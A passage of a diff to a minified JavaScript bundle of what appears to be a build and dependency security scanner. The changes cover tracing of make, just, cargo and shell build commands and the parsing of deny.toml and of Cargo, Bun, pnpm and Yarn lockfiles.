-length===2&&first[0]==="cd"&&last[0]==="pwd"?insideOf2(first,folders):commands2.length===1?[outputOf(first,folders)].flat():[UNKNOWN]}function insideOf2(cd,folders){
-const path=cd.filter(word2=>word2!=="--"&&word2!=="-P").at(1),inside=path===void 0?[null]:(folders??[""]).map(folder=>resolved(folder,path)),isRelative3=path!==
-void 0&&resolved("",path)!==resolved("a",path);return folders===null&&isRelative3?[UNKNOWN]:inside.map(folder=>folder===null?UNKNOWN:absolute(folder))}function outputOf(words4,folders){
-const[program2="",...others]=words4,args=others.filter(word2=>!/^-[a-zA-Z]?$|^--/.test(word2));switch(program2){case"pwd":return folders?.map(absolute)??UNKNOWN;case"\
-dirname":return args[0]===void 0?UNKNOWN:parentOf(args[0]);case"realpath":case"readlink":return args.at(-1)??UNKNOWN;case"echo":return others[0]?.startsWith("-")?
-UNKNOWN:others.join(" ");case"git":return others.join(" ")==="rev-parse --show-toplevel"?absolute(""):UNKNOWN;default:return UNKNOWN}}var RELEVANT=/tauri|npm|yarn|\bbun|deno|npx|cargo|\bmake\b|\bjust\b|\btask\b|turbo|\bnx\b|(?:^|[\s/])(?:ba|da|z|k)?sh\b|pwsh|powershell|\bcmd\b|\.(?:sh|bash|zsh|ps1|bat|cmd)\b|--config|(?:^|\s)-[a-z]*c(?:\s|=|$)|\.conf\.|capabilities|permissions|\bset|\bcd\b|\bpushd\b|\bpopd\b|location/i;
+LONGEST_CALL2=1e5;function withoutCalls(command2,variables){return command2.replace(/\$[({](call\s[^(){}]*)[)}]/g,(whole2,given2)=>{if(!variables.has(CALL.exec(
+given2)?.[1]??""))return whole2;const{words:words4,length}=heldBy(variables);return length>MOST_HELD?`eval ${UNKNOWN_WORDS}`:`tauri build ${UNKNOWN_WORDS} ${quoted2(
+[given2,...words4])}`})}var MOST_HELD=2e4;function heldBy(variables){const known13=held.get(variables);if(known13!==void 0)return known13;const words4=[...variables].
+flat(),made2={words:words4,length:words4.join(" ").length};return held.set(variables,made2),made2}var held=new WeakMap,DEEPEST_REFERENCE=20,LONGEST_VARIABLE=1e4;
+function resolvedVariables(variables,{reference}){let found12=variables;for(let depth=0;depth<DEEPEST_REFERENCE;depth+=1){const before3=found12;if(found12=new Map(
+[...before3].map(([name,text3])=>{const filled3=filledIn(text3,before3,reference);return[name,filled3.length>LONGEST_VARIABLE?text3:filled3]})),![...found12].some(
+([name,text3])=>text3!==before3.get(name)))break}return found12}function startedRecipes(ran,files){const call2=recipeCall(ran.words),file2=call2&&fileOf(call2,ran.
+folders,files);if(call2===void 0||file2===void 0)return[];const variables=new Map([...call2.program==="make"?written(ran):[],...call2.variables]),makers=makersOfRecipes(
+file2,files,{variables,args:call2.args});return chosen(makers,call2,file2).flatMap(({parts:parts2})=>parts2.map(({script,start})=>({script,start:{...start,variables:new Map(
+[...ran.variables,...start.variables])}})))}var NAMES_FILE=/^(?:-f|--file|--makefile|--justfile)$/,NAMES_FOLDER2=/^(?:-C|--directory|--working-directory|-d)$/;function recipeCall(all){
+const at2=all.findIndex(word2=>/^(?:.*\/)?(?:g?make|just)$/.test(word2));if(at2<0)return;const program2=all[at2]?.endsWith("just")===!0?"just":"make",words4=all.
+slice(at2+1),behind2=flag=>words4.find((_3,i2)=>flag.test(words4[i2-1]??"")),given2=words4.flatMap(word2=>{const[,name,value]=/^([A-Za-z_]\w*)=(.*)$/s.exec(word2)??
+[];return name===void 0||value===void 0?[]:[[name,value]]}),isOperand=(word2,i2)=>!/^-|^[A-Za-z_]\w*=/.test(word2)&&!NAMES_FILE.test(words4[i2-1]??"")&&!NAMES_FOLDER2.
+test(words4[i2-1]??""),first=words4.findIndex(isOperand),recipes=program2==="just"?words4.slice(first).slice(0,first<0?0:1):words4.filter(isOperand);return{program:program2,
+recipes,variables:new Map(given2),args:first<0?[]:words4.slice(first+1),file:behind2(NAMES_FILE)??null,folder:behind2(NAMES_FOLDER2)??"."}}function chosen(makers,{
+recipes},{path}){return recipes.length===0?makers.slice(0,1):makers.filter(({key:key3})=>recipes.some(recipe=>key3===`${path}#${recipe}`))}function written({variables}){
+return[...variables].flatMap(([name,values])=>{const[only2]=values;return values.length===1&&only2?.length===1&&/^\w+$/.test(name)?[[name,only2[0]??""]]:[]})}var USUAL2={
+make:["GNUmakefile","makefile","Makefile"],just:["justfile","Justfile",".justfile"]};function fileOf({program:program2,file:file2,folder},folders,files){const inside=(folders??
+[""]).flatMap(each=>resolved(each,folder)??[]),usual=inside.flatMap(each=>USUAL2[program2].map(name=>inFolder(each,name)));return(file2===null?usual:pathsIn(file2,
+inside)).flatMap(path=>files.get(path)??[]).find(({path})=>file2!==null||isJustfile(path)||isMakefile(path))}var SHELL3=/^(?:.*[\\/])?(?:ba|da|z|k)?sh(?:\.exe)?$/,
+RUNS_SCRIPTS=/^(?:.*[\\/])?(?:run-s|run-p|npm-run-all2?|run-script-os)$/;function commandLineAt(words4,i2){const[word2="",before3=""]=[words4[i2],words4[i2-1]];
+return/^-[a-zA-Z]*c$/.test(before3)&&words4.slice(0,i2).some(each=>SHELL3.test(each))?{text:word2,name:words4[i2+1]??null,args:words4.slice(i2+2)}:{text:words4.
+slice(0,i2).some(each=>RUNS_SCRIPTS.test(each))?`npm run ${word2}`:word2.replace(/^(?:npm|pnpm|yarn|bun):(?=\S)/,"npm run "),name:null,args:[]}}function startedProcess([
+program2="",...words4]){if(!/^(?:start-process|saps|start)$/i.test(program2))return;const behind2=flag=>{const at2=words4.findIndex(word2=>flag.test(word2));return at2<
+0?void 0:words4[at2+1]},operands=words4.filter((word2,i2)=>!word2.startsWith("-")&&!/^-\w/.test(words4[i2-1]??"")),file2=behind2(/^-(?:f\w*|path)$/i)??operands[0],
+list=behind2(/^-(?:a\w*)$/i)??operands[1]??"";return file2===void 0?void 0:[file2,...list.split(/[\s,]+/).filter(word2=>word2!=="")]}function outputsOf(commands2,folders){
+const[first,last]=[commands2[0]??[],commands2.at(-1)??[]];return commands2.length===2&&first[0]==="cd"&&last[0]==="pwd"?insideOf2(first,folders):commands2.length===
+1?[outputOf(first,folders)].flat():[UNKNOWN]}function insideOf2(cd,folders){const path=cd.filter(word2=>word2!=="--"&&word2!=="-P").at(1),inside=path===void 0?[
+null]:(folders??[""]).map(folder=>resolved(folder,path)),isRelative3=path!==void 0&&resolved("",path)!==resolved("a",path);return folders===null&&isRelative3?[UNKNOWN]:
+inside.map(folder=>folder===null?UNKNOWN:absolute(folder))}function outputOf(words4,folders){const[program2="",...others]=words4,args=others.filter(word2=>!/^-[a-zA-Z]?$|^--/.
+test(word2));switch(program2){case"pwd":return folders?.map(absolute)??UNKNOWN;case"dirname":return args[0]===void 0?UNKNOWN:parentOf(args[0]);case"realpath":case"\
+readlink":return args.at(-1)??UNKNOWN;case"echo":return others[0]?.startsWith("-")?UNKNOWN:others.join(" ");case"git":return others.join(" ")==="rev-parse --sho\
+w-toplevel"?absolute(""):UNKNOWN;default:return UNKNOWN}}var RELEVANT=/tauri|npm|yarn|\bbun|deno|npx|cargo|\bmake\b|\bjust\b|\btask\b|turbo|\bnx\b|(?:^|[\s/])(?:ba|da|z|k)?sh\b|pwsh|powershell|\bcmd\b|\.(?:sh|bash|zsh|ps1|bat|cmd)\b|--config|(?:^|\s)-[a-z]*c(?:\s|=|$)|\.conf\.|capabilities|permissions|\bset|\bcd\b|\bpushd\b|\bpopd\b|location/i;
 function mayMatter(words4){const[program2=""]=words4;return!isKnown(program2)||program2.includes("/")||words4.some(word2=>RELEVANT.test(word2))}function mayBeCommandLine(text3){
 return/\S\s+\S/.test(text3)&&RELEVANT.test(text3)}var MOST_VALUES=16,MOST_WORDS=2e3,LONGEST_WORD=5e4;function valuesOf(word2,scope){const found12=expanded(word2.
 pieces,scope).map(({done,last})=>last===""&&!word2.quoted&&!hasText(word2)?done:[...done,last]);return found12.length>MOST_VALUES?[[UNKNOWN_WORDS]]:found12}function valuesOfAll(words4,scope){
@@ -4424,11 +4446,11 @@ isCut=name=>parts2.some(({name:text3})=>text3.includes(`%${name}:`));return new 
 function isPartOf(value,words4){const texts2=value.split(/\s+/);return words4.some(word2=>texts2.some(text3=>text3===""||word2.includes(text3)))}var NONE=new Set,
 INDIRECT=/\$\{!\w+\}|\b(?:declare|local|typeset)\s+-\w*n/,READS=/(?:^|[^<])<[ \t]*(["']?)([\w./\\-]{1,500})\1|\bin\s*\(([^()'`"]{1,500})\)/gi;function inputFiles(source){
 return[...source.matchAll(READS)].flatMap(([,,file2,files])=>file2??(files??"").split(/[\s,]+/))}var RUNS_CODE="runs code of the repository",GIVES_TO_STEPS=["GI\
-THUB_OUTPUT","GITHUB_ENV","set-output","set-env",RUNS_CODE],INTERPRETERS=/^(?:node|bun|deno|tsx|ts-node|python3?|ruby|perl|php)$/,ONLY_NAMES=/^(?:dirname|basename|readlink|realpath|chmod)$/,
+THUB_OUTPUT","GITHUB_ENV","set-output","set-env",RUNS_CODE],INTERPRETERS2=/^(?:node|bun|deno|tsx|ts-node|python3?|ruby|perl|php)$/,ONLY_NAMES=/^(?:dirname|basename|readlink|realpath|chmod)$/,
 CODE2=/\.(?:[cm]?[jt]s|py|rb|pl|php)$/,EVERYWHERE=new Set(["PWD","HOME","PATH","OS","CI","TAURI_CONFIG"]);function partsOf5(commands2){const bySource=Map.groupBy(
 commands2,({source})=>source),read11=new Set(commands2.map(({path})=>path));return new Map([...bySource].map(([source,rans])=>[source,partOf(rans,read11)]))}function partOf(rans,read11){
 const[{source=""}={}]=rans,paths3=new Set(rans.flatMap(({words:words4,folders,isFollowed})=>[...words4,...inputFiles(source)].flatMap(word2=>pathsIn(word2,folders)).
-filter(path=>!read11.has(path)||!(isFollowed||ONLY_NAMES.test(words4[0]??""))))),runsCode=rans.some(({words:words4})=>words4.some(word2=>INTERPRETERS.test(word2)))&&
+filter(path=>!read11.has(path)||!(isFollowed||ONLY_NAMES.test(words4[0]??""))))),runsCode=rans.some(({words:words4})=>words4.some(word2=>INTERPRETERS2.test(word2)))&&
 [...paths3].some(path=>CODE2.test(path)),files=source.match(/[\w-]{1,100}\.(?:json5?|toml)\b/g)??[],written7=source.match(/GITHUB_(?:OUTPUT|ENV)|set-(?:output|env)/g)??
 [],given2=rans.flatMap(({sets,words:words4})=>[...sets,...words4.flatMap(assigned)]);return{name:[withoutPlaces(source,rans,read11),...new Set(rans.flatMap(ran=>ran.
 inputs))].join(`
@@ -4596,41 +4618,45 @@ join(" "))))return[];const run=commands2.filter(({isPrinted})=>!isPrinted),own=r
 by),entry:"",secrets,commands:own,leading}]})}var TRUSTED=/\bsecrets\s*[.[:]|tauri|tagName|gh release|^runs:/im;function otherScripts({location,files}){return withAncestors(
 location.root).flatMap(folder=>{const file2=files.get(inFolder(folder,"package.json"));return file2===void 0||!isPackageManifest(file2.path)?[]:packageScripts(file2).
 map(script=>{const start={folders:[folderOf(script.path)],variables:new Map,args:[[]]};return{rule:"build/package-script-changed",by:(0,import_shared_acegpst.code)(
-`npm run ${script.name}`),part:{script:packageScript(script),start},secrets:[]}})})}var MOST_MANIFESTS=200;function callsIn2(ran){return ran.flatMap(({words:words4,
+`npm run ${script.name}`),part:{script:packageScript(script),start},secrets:[]}})})}var MOST_MANIFESTS=1e3;function callsIn3(ran){return ran.flatMap(({words:words4,
 folders})=>{const[program2,...rest2]=words4.filter(word2=>!word2.startsWith("+"));if(program2!=="cargo"||!/^(?:run|r)$/.test(rest2[0]??""))return[];const behind2=flags2=>rest2.
 find((_3,i2)=>flags2.test(rest2[i2-1]??""))??rest2.find(word2=>flags2.test(word2.split("=",1)[0]??"")&&word2.includes("="))?.replace(/^[^=]*=/,""),path=behind2(
 /^--manifest-path$/),manifests=path===void 0?(folders??[]).map(each=>inFolder(each,"Cargo.toml")):pathsIn(path,folders);return[{name:behind2(/^(?:-p|--package)$/)??
-null,manifests}]})}function pathsOfStarted(ran,project){const calls=callsIn2(ran);if(calls.length===0)return[];const{contents}=project,all=calls.some(({name})=>name!==
-null)?manifestsIn(project):[],code2=startedCrates(calls,project).flatMap(({folder})=>contents.below(inFolder(folder,"src")).filter(({path})=>path.endsWith(".rs")));
-return[...calls.flatMap(({manifests})=>manifests),...[...all.slice(0,MOST_MANIFESTS),...code2].map(({path})=>path)]}function manifestsIn({contents}){return contents.
-below("").filter(({path})=>baseName(path)==="Cargo.toml")}function startedCrateGaps(ran,project){const named13=callsIn2(ran).flatMap(({name})=>name??[]);if(named13.
-length===0||manifestsIn(project).length<=MOST_MANIFESTS)return[];const found12=new Set(startedCrates(callsIn2(ran),project).map(({name})=>name));return[...new Set(
-named13)].filter(name=>!found12.has(name)).map(name=>{const message=`${(0,import_shared_acegpst.code)(`cargo run -p ${name}`)} runs where the app is built, and \
-the repository has more than ${MOST_MANIFESTS} manifests: the crate wasn't found among the first of them.`,rests=(0,import_shared_acegos.wordsOf)("cargo run",name,
-project.contents.at(""));return(0,import_shared_acegos.gapIn)(project.location.config,{kind:"not-followed",rests,message})})}function startedCrates(calls,{files}){
-return[...files.values()].flatMap(file2=>baseName(file2.path)==="Cargo.toml"?readManifest(file2)??[]:[]).filter(({path,name})=>calls.some(call2=>call2.name===null?
-call2.manifests.includes(path):call2.name===name))}function startedCrateGrants(ran,project,secrets){const{files,contents}=project;return startedCrates(callsIn2(
-ran),project).filter(({folder})=>folder!==project.location.root).flatMap(({folder,value})=>{const own=contents.below(inFolder(folder,"src")).flatMap(({path})=>files.
-get(path)??[]),texts2=new Map(own.map(({path,text:text3})=>[path,text3]));return[...crateTargets(value,folder,contents).flatMap(({path})=>path??[]),...[...texts2.
-keys()].filter(path=>path.startsWith(inFolder(folder,"src/bin/")))].filter(path=>texts2.has(path)).flatMap(path=>ownRust(path,texts2,callable(value,"dependencie\
-s"))).flatMap(act=>{const file2=files.get(act.path);return file2===void 0?[]:[grantOf(act,file2,secrets)]})})}var buildSteps={id:"build-steps",scope:"app",layered:!0,
-files:FILES,follows:ofNativeBuilds,opens(project){const commands2=commandsStarted(project),started2=pathsOfPrograms(commands2),asked4=programsFrom([...started2,
-...ownCode(project)],project.files,project.location).flatMap(file2=>pathsAsked(file2,project.location)),others=[...pathsOfShells(commands2),...pathsOfStarted(commands2,
-project)];return[...new Set([...started2,...asked4,...others])]},compares:project=>new Set(wrappersOf(project).map(({path})=>path)),read(project){const runs2=runsOf(
-project),secrets=secretsOfBuilds(project),commands2=commandsStarted(project),started2=pathsOfPrograms(commands2),programs4=programsFrom([...started2,...ownCode(
-project)],project.files,project.location),grants=[...runs2.flatMap(run=>[...commandGrants(run,project),...fetchingGrants(run,project)]),...programs4.flatMap(file2=>programGrants(
-file2,secrets)),...programs4.flatMap(bundledGrants),...buildScriptGrants(project,secrets),...startedCrateGrants(commands2,project,secrets),...replacedGrants(project,
-runs2.filter(isOfBuild),secrets)],gaps=programs4.flatMap(file2=>[...programGaps(file2),...bundledGaps(file2)]);return{grants,gaps:[...gaps,...startedCrateGaps(commands2,
-project),...nativeBuildGaps(project)]}}};function commandsStarted(project){return runsOf(project).filter(isOfBuild).flatMap(({commands:commands2,leading=[]})=>[
-...commands2,...leading])}function isOfBuild({rule}){return rule!=="build/package-script-changed"}function ownCode(project){return[...[...project.files.keys()].
-filter(path=>isBundler(path,project.location)),...codeOfPhones(project)]}function lineOf3(heading,key3,value){return`${heading===""?"":`[${heading}] `}${inKey(key3)}\
- = ${inToml(value)}`}function inKey(name){return/^[\w-]+$/.test(name)?name:JSON.stringify(name)}function inToml(value){switch(value.kind){case"object":return`{ ${membersOf2(
-value).map(([name,each])=>`${inKey(name)} = ${inToml(each)}`).join(", ")} }`;case"array":return`[${value.items.map(inToml).join(", ")}]`;default:return JSON.stringify(
-plain(value))}}function crateSpec(entry){const text3=asString(entry)??asString(member(entry,"crate"));if(text3!==void 0)return specIn(text3);const crate2=asString(
-member(entry,"name"));return crate2===void 0?void 0:specOf(crate2,asString(member(entry,"version")))}function specIn(text3){const[,crate2=text3,mark,version]=/^([^@]*?)(@)(.*)$/.
-exec(text3)??/^([^:]*)(:)(.*)$/.exec(text3)??[];return specOf(crate2,mark==="@"?`=${version}`:version)}function specOf(crate2,version){return{crate:crate2,conditions:version===
-void 0||version==="*"?[]:[`version ${version}`]}}function denySetting(said2,conditions=[]){const decides3=said2.effect==="more"?"approval":"guard";return{...said2,
-decides:decides3,from:"deny.toml",value:conditions.join(`
+null,manifests}]})}function pathsOfStarted(ran,project){const calls=callsIn3(ran);if(calls.length===0)return[];const all=calls.some(({name})=>name!==null)?manifestsIn(
+project):[],built=startedCrates(calls,project).flatMap(crate2=>builtFor(crate2,project)),needed2=built.flatMap(({dependencies})=>foldersOf(dependencies));return[
+...calls.flatMap(({manifests})=>manifests),...all.slice(0,MOST_MANIFESTS).map(({path})=>path),...needed2.map(folder=>inFolder(folder,"Cargo.toml")),...built.flatMap(
+({manifest:manifest2})=>codeOf3(manifest2,project))]}function builtFor({folder},{files}){return localCrates(cargoWorkspace(folder,files),files)}function rootsOf({
+value,folder},{contents}){const inBin=contents.below(inFolder(folder,"src/bin")).map(({path})=>path);return[...[...crateTargets(value,folder,contents),buildScriptTarget(
+value,folder)].flatMap(target=>target?.path??[]),...inBin.filter(path=>path.endsWith(".rs"))]}function codeOf3(manifest2,project){const{folder}=manifest2;return rootsOf(
+manifest2,project).flatMap(root=>project.contents.below(folderOf(root)).map(({path})=>path).filter(path=>path.endsWith(".rs")&&(folderOf(root)!==folder||folderOf(
+path)===folder)))}function manifestsIn({contents}){return contents.below("").filter(({path})=>baseName(path)==="Cargo.toml")}function startedCrateGaps(ran,project){
+const named13=callsIn3(ran).flatMap(({name})=>name??[]);return manifestsIn(project).length<=MOST_MANIFESTS?[]:[...new Set(named13)].map(name=>{const message=`${(0,import_shared_acegpst.code)(
+`cargo run -p ${name}`)} runs where the app is built, and the repository has more than ${MOST_MANIFESTS} manifests: that of the crate may be beyond those that w\
+ere read.`,rests=(0,import_shared_acegos.wordsOf)("cargo run",name,project.contents.at(""));return(0,import_shared_acegos.gapIn)(project.location.config,{kind:"\
+not-followed",rests,message})})}function startedCrates(calls,{files}){return[...files.values()].flatMap(file2=>baseName(file2.path)==="Cargo.toml"?readManifest(
+file2)??[]:[]).filter(({path,name})=>calls.some(call2=>call2.name===null?call2.manifests.includes(path):call2.name===name))}function startedCrateGrants(ran,project,secrets){
+const{files,location}=project,ofApp=new Set(builtCode(project).map(({folder})=>folder)),started2=startedCrates(callsIn3(ran),project).filter(({folder})=>folder!==
+location.root),built=started2.flatMap(crate2=>builtFor(crate2,project)).map(({manifest:manifest2})=>manifest2),texts2=new Map([...files.values()].flatMap(({path,
+text:text3})=>path.endsWith(".rs")?[[path,text3]]:[]));return[...new Set(built)].flatMap(manifest2=>{if(!started2.includes(manifest2)&&ofApp.has(manifest2.folder))
+return[];const script=buildScriptTarget(manifest2.value,manifest2.folder)?.path;return rootsOf(manifest2,project).filter(path=>texts2.has(path)).flatMap(path=>{
+const needs=path===script?"build-dependencies":"dependencies";return ownRust(path,texts2,callable(manifest2.value,needs))}).flatMap(act=>{const file2=files.get(
+act.path);return file2===void 0?[]:[grantOf(act,file2,secrets)]})})}var buildSteps={id:"build-steps",scope:"app",layered:!0,files:FILES,follows:ofNativeBuilds,opens(project){
+const commands2=commandsStarted(project),started2=pathsOfPrograms(commands2),asked4=programsFrom([...started2,...ownCode(project)],project.files,project.location).
+flatMap(file2=>pathsAsked(file2,project.location)),others=[...pathsOfShells(commands2),...pathsOfStarted(commands2,project)];return[...new Set([...started2,...asked4,
+...others])]},compares:project=>new Set(wrappersOf(project).map(({path})=>path)),read(project){const runs2=runsOf(project),secrets=secretsOfBuilds(project),commands2=commandsStarted(
+project),started2=pathsOfPrograms(commands2),programs4=programsFrom([...started2,...ownCode(project)],project.files,project.location),grants=[...runs2.flatMap(run=>[
+...commandGrants(run,project),...fetchingGrants(run,project)]),...programs4.flatMap(file2=>programGrants(file2,secrets)),...programs4.flatMap(bundledGrants),...buildScriptGrants(
+project,secrets),...startedCrateGrants(commands2,project,secrets),...replacedGrants(project,runs2.filter(isOfBuild),secrets)],gaps=programs4.flatMap(file2=>[...programGaps(
+file2),...bundledGaps(file2)]);return{grants,gaps:[...gaps,...startedCrateGaps(commands2,project),...nativeBuildGaps(project)]}}};function commandsStarted(project){
+return runsOf(project).filter(isOfBuild).flatMap(({commands:commands2,leading=[]})=>[...commands2,...leading])}function isOfBuild({rule}){return rule!=="build/p\
+ackage-script-changed"}function ownCode(project){return[...[...project.files.keys()].filter(path=>isBundler(path,project.location)),...codeOfPhones(project)]}function lineOf3(heading,key3,value){
+return`${heading===""?"":`[${heading}] `}${inKey(key3)} = ${inToml(value)}`}function inKey(name){return/^[\w-]+$/.test(name)?name:JSON.stringify(name)}function inToml(value){
+switch(value.kind){case"object":return`{ ${membersOf2(value).map(([name,each])=>`${inKey(name)} = ${inToml(each)}`).join(", ")} }`;case"array":return`[${value.items.
+map(inToml).join(", ")}]`;default:return JSON.stringify(plain(value))}}function crateSpec(entry){const text3=asString(entry)??asString(member(entry,"crate"));if(text3!==
+void 0)return specIn(text3);const crate2=asString(member(entry,"name"));return crate2===void 0?void 0:specOf(crate2,asString(member(entry,"version")))}function specIn(text3){
+const[,crate2=text3,mark,version]=/^([^@]*?)(@)(.*)$/.exec(text3)??/^([^:]*)(:)(.*)$/.exec(text3)??[];return specOf(crate2,mark==="@"?`=${version}`:version)}function specOf(crate2,version){
+return{crate:crate2,conditions:version===void 0||version==="*"?[]:[`version ${version}`]}}function denySetting(said2,conditions=[]){const decides3=said2.effect===
+"more"?"approval":"guard";return{...said2,decides:decides3,from:"deny.toml",value:conditions.join(`
 `)}}function bansIn(policy){const bans=member(policy,"bans");return[...itemsOf(member(bans,"deny")).flatMap(banOf),...listOfAllowed(pick(policy,"bans","allow"))]}
 function banOf(entry){const spec=crateSpec(entry);if(spec===void 0||asBoolean(member(entry,"deny-multiple-versions"))===!0)return[];const unless2=stringsOf(member(
 entry,"wrappers")).map(({value})=>`but for ${value}`),written7=lineOf3("bans","deny",{kind:"array",items:[entry],at:entry.at}),ban={name:"bans.deny",of:spec.crate,
@@ -4777,13 +4803,13 @@ stringify([crate2.name,crate2.version,(0,import_shared_ce.sourceText)(crate2.sou
 needs(base,head){return neededCrates(base===null?[]:packagesOf(base),packagesOf(head))},read(project){const{location,files}=project,lock=lockOf(location.root,files);
 if(lock===void 0)return{grants:[],gaps:[]};const file2=files.get(lock.path),ambiguous=file2===void 0?[]:ambiguousGrants("cargo",file2,hiddenCrates(file2));return{
 grants:[...grantsOf(lock,project),...ambiguous,...formatOf2(lock,project)],gaps:[...lock.gaps,...danglingEdges(lock)]}}};function packagesOf({location,files}){return lockOf(
-location.root,files)?.packages??[]}function grantsOf(lock,project){const wayTo2=shortestPaths({roots:rootsOf(lock,project),next:crate2=>crate2.dependencies.flatMap(
+location.root,files)?.packages??[]}function grantsOf(lock,project){const wayTo2=shortestPaths({roots:rootsOf2(lock,project),next:crate2=>crate2.dependencies.flatMap(
 ({target})=>target??[]),nameOf:crate2=>crate2.name}),neededWhen=neededOnly(lock,project);return lock.packages.map(crate2=>({domain:"packages",kind:"package",ecosystem:"\
 cargo",manager:"cargo",name:crate2.name,version:crate2.version,source:crate2.source,checksum:crate2.checksum,...whatIsAsked(crate2),code:[],folderInArchive:"",outcome:"\
 runs",alias:null,declared:null,scope:ALWAYS,neededOnly:neededWhen(crate2),needs:[...new Set(crate2.dependencies.flatMap(({target})=>target?[titleOf(target)]:[]))],
 path:wayTo2(crate2),at:crate2.at,lines:crate2.lines}))}function formatOf2({path,version},{location,files}){if(version===0)return[];const isAskedFor=asksForLockFormat(
 version,cargoWorkspace(location.root,files),files);return[{domain:"packages",kind:"lockfile-format",manager:"cargo",path,format:version,isAskedFor}]}var ALWAYS={
-isDev:!1,isOptional:!1};function titleOf({name,version}){return`${name} ${version}`}function rootsOf(lock,{location,files}){const own=ownPackage(lock,cargoWorkspace(
+isDev:!1,isOptional:!1};function titleOf({name,version}){return`${name} ${version}`}function rootsOf2(lock,{location,files}){const own=ownPackage(lock,cargoWorkspace(
 location.root,files));return[own===void 0?[]:[own],lock.packages.filter(crate2=>crate2.source.kind==="path")]}var NOTHING_KNOWN={steps:null,links:null,listing:null};
 function whatIsAsked(crate2){if(crate2.source.kind==="path")return{...NOTHING_KNOWN,asks:null,unknown:null};const asks=needOf(crate2)??null;return{...NOTHING_KNOWN,
 asks,unknown:asks===null?whyNotAsked(crate2):NOT_ASKED}}function whyNotAsked(crate2){return crate2.source.kind==="git"?"no commit pins what the repository holds":
@@ -5533,12 +5559,12 @@ const found12=new Set(starts3.map(({release})=>release));for(const release of fo
 des","patchedDependencies","catalog","catalogs"];function bunSettings(lock){return[...stringsOf(member(lock,"trustedDependencies")).map(({value,at:at2})=>({name:"\
 trustedDependencies",value,at:at2})),...TABLES5.flatMap(name=>settingsIn(name,member(lock,name),""))]}function settingsIn(name,table2,above){return table2?.kind!==
 "object"?[]:[...table2.entries].flatMap(([key3,{key:at2,value}])=>{const text3=asString(value);return text3!==void 0?[{name,value:`${above}${key3} ${text3}`,at:at2}]:
-above===""?settingsIn(name,value,`${key3} > `):[]})}var SIGNS2=new Set(["{","}","[","]",":",","]),COMMENT=/\/\/[^\n\r\u2028\u2029]*|\/\*.*?\*\//sy;function oddSyntax(file2){
+above===""?settingsIn(name,value,`${key3} > `):[]})}var SIGNS3=new Set(["{","}","[","]",":",","]),COMMENT=/\/\/[^\n\r\u2028\u2029]*|\/\*.*?\*\//sy;function oddSyntax(file2){
 const scanner=new JsonScanner(file2.text,"json");try{for(skipMark(file2.text,scanner);scanner.skipSpace()<file2.text.length;)takeWord(file2.text,scanner);return[]}catch(error){
 if(!(error instanceof Unreadable))throw error;const message=`${(0,import_shared_acegpst.code)(file2.path)} holds what no known Bun writes, so Bun may read it in\
  another way or not at all: ${error.message} Let Bun write the lockfile anew.`,at2=placesIn(file2)(error.offset,error.offset);return[(0,import_shared_acegos.gapAt)(
 at2,{kind:"not-followed",rests:(0,import_shared_acegos.contentOf)(file2),message})]}}function skipMark(text3,scanner){text3.startsWith("\uFEFF")&&(scanner.offset=
-1)}function takeWord(text3,scanner){const next2=scanner.peek();SIGNS2.has(next2)?scanner.offset++:next2==='"'?scanner.string():next2==="/"?takeComment(text3,scanner):
+1)}function takeWord(text3,scanner){const next2=scanner.peek();SIGNS3.has(next2)?scanner.offset++:next2==='"'?scanner.string():next2==="/"?takeComment(text3,scanner):
 scanner.literal()}function takeComment(text3,scanner){if(COMMENT.lastIndex=scanner.offset,!COMMENT.test(text3))throw new Unreadable("A comment doesn't end.",scanner.
 offset);scanner.offset=COMMENT.lastIndex}var FORMATS=["0","1","2","3"];function readBunLock(file2){const parsed11=parseFile(file2);if(!parsed11.ok){const message=`${(0,import_shared_acegpst.code)(
 file2.path)} isn't a lockfile that Bun can read, so no version in it counts: ${parsed11.message}`;return empty2(file2,"",(0,import_shared_acegos.gapAt)(parsed11.
@@ -5590,7 +5616,7 @@ requirements},format,instances,releases,gaps){const answers=requirements.map(req
 release:void 0};const key3=format.keyOf(reference,name);if(key3===null)return{...requirement,release:null};const release=instances.get(key3);if(release===void 0){
 const why=`asks for ${(0,import_shared_acegpst.code)(name)}, which the lockfile lacks`;gaps.push(oddity({kind:"folder",name:folder},entry.key,why,entry.value))}
 return typeof release=="string"&&releases.ask(release,name,null),{...requirement,release:release??void 0}});return{folder,answers}}var FOR_DEVELOPMENT="devDepen\
-dencies";function rootsOf2(folders,forDevelopment){const answers=folders.flatMap(each=>each.answers);return new Set(releasesOf(answers.filter(({table:table2})=>table2===
+dencies";function rootsOf3(folders,forDevelopment){const answers=folders.flatMap(each=>each.answers);return new Set(releasesOf(answers.filter(({table:table2})=>table2===
 FOR_DEVELOPMENT===forDevelopment)))}function projectsOf(folders){const projects=new Map;for(const{folder,answers}of folders)projects.set(folder,(projects.get(folder)??
 new Set).union(new Set(releasesOf(answers))));return new Map([...projects].map(([folder,releases])=>[folder,[...releases]]))}function releasesOf(answers){return answers.
 flatMap(({release})=>release??[])}function answersOf(folders){const byFolder=new Map(folders.map(({folder,answers})=>[folder,Map.groupBy(answers,({name})=>name)]));
@@ -5711,7 +5737,7 @@ plain(value))}function readPnpmLock(file2){const lock=read5.get(file2)??lockIn3(
 const documents=pnpmDocuments(file2),fault=documents.gaps.length>0?documents.gaps:refusals(file2,documents);if(fault.length>0)return emptyLock2(file2,versionOf4(
 documents),fault);const gaps=[],releases=new PnpmReleases(gaps),{environment:environment2,project}=documents,own=environment2===null?[]:foldersOf4(environment2,
 !0,releases,gaps),folders=project===null?[]:foldersOf4(project,!1,releases,gaps),all=[...own,...folders];return{path:file2.path,manager:"pnpm",version:versionOf4(
-documents),packages:releases.finish(rootsOf2(all,!1),rootsOf2(all,!0)),projects:projectsOf(all),answerTo:answersOf(folders),settings:[...configDependencies(own),
+documents),packages:releases.finish(rootsOf3(all,!1),rootsOf3(all,!0)),projects:projectsOf(all),answerTo:answersOf(folders),settings:[...configDependencies(own),
 ...project===null?[]:settingsIn2(project)],gaps}}function emptyLock2({path},version,gaps){return{path,manager:"pnpm",version,packages:new Map,projects:new Map,answerTo:()=>{},
 settings:[],gaps}}function versionOf4({project,environment:environment2}){return numberOf(project??environment2??void 0)}function numberOf(document){return asString(
 member(document,"lockfileVersion"))??""}function refusals(file2,{environment:environment2,project}){const rests=(0,import_shared_acegos.contentOf)(file2);for(const document of[
@@ -5843,7 +5869,7 @@ needs}){const{block,name,version,source,kind,target,locator}=entry,isClassic2=lo
 at,commands2=member(block.fields,"bin"),sourceAt=placeOf12(isClassic2?"resolved":"resolution")??at2;return{name,version,source,target,at:at2,integrity:kind==="p\
